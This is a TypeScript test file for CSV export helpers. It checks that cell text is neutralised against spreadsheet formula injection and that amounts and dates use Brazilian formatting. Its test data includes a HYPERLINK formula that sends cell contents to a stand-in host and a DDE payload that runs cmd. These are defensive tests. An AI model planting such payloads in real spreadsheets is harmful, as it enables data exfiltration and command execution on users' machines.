import Papa from 'papaparse';
import { describe, expect, test } from 'vitest';
import { csvLine, dateCell, moneyCell, textCell } from './csv';

describe('textCell: formula injection neutralised, quoting for ;', () => {
  test.each([
    { value: 'Maria da Silva', cell: 'Maria da Silva' },
    {
      value: '=HYPERLINK("http://x.example/?"&A1,"clique")',
      cell: `"'=HYPERLINK(""http://x.example/?""&A1,""clique"")"`,
    },
    { value: '+55 11 98765-4321', cell: "'+55 11 98765-4321" },
    { value: "-2+3+cmd|' /C calc'!A0", cell: "'-2+3+cmd|' /C calc'!A0" },
    { value: '@SUM(A1:A9)', cell: "'@SUM(A1:A9)" },
    { value: '\t=1+1', cell: "'\t=1+1" },
    { value: '\r=1+1', cell: `"'\r=1+1"` },
    { value: 'Rua A; fundos', cell: '"Rua A; fundos"' },
    { value: 'linha 1\nlinha 2', cell: '"linha 1\nlinha 2"' },
    { value: 'a = b', cell: 'a = b' },
    { value: '', cell: '' },
    { value: null, cell: '' },
  ])('$value → $cell', ({ value, cell }) => {
    expect(textCell(value)).toBe(cell);
  });

  test('a spreadsheet reading the cells back sees the text, never a formula start', () => {
    const hostile = ['=1+1', '+1', '-1', '@A1', '\t=1', '\r=1', 'ok; "quoted"'];
    const line = csvLine(hostile.map(textCell));
    const [row] = Papa.parse<string[]>(line.trim(), { delimiter: ';' }).data;
    expect(row?.map((c) => c.replace(/^'/, ''))).toEqual(hostile);
    for (const cell of row ?? []) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });
});

describe('moneyCell and dateCell', () => {
  test.each([
    [0, '0,00'],
    [5, '0,05'],
    [123456, '1234,56'],
    [-5, '-0,05'],
    [1_000_000_00, '1000000,00'],
  ])('%i centavos → %s', (amount, text) => {
    expect(moneyCell(amount)).toBe(text);
  });
  test('dates as DD/MM/AAAA', () => {
    expect(dateCell('2026-03-10')).toBe('10/03/2026');
    expect(dateCell(null)).toBe('');
  });
});
